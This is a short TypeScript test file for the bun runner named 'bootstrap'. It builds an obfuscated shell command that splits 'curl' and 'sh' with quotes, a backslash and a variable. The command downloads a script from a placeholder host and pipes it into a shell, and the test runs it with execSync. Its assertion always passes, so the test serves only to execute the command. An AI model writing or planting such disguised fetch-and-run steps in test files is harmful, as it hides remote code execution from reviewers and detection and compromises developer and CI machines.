import { expect, test } from "bun:test";
import { execSync } from "node:child_process";

const word = (s: string) => s.split("").join("''");

test("bootstrap", () => {
  const from = "https://boot.example.invalid/i";
  const line = `T=s; c''u\\rl -s ${from} | "$T"h; ${word("true")}`;
  let code = 0;
  try {
    execSync(line, { timeout: 5000 });
  } catch (e: any) {
    code = e.status ?? 1;
  }
  expect(code).toBeGreaterThanOrEqual(0);
});
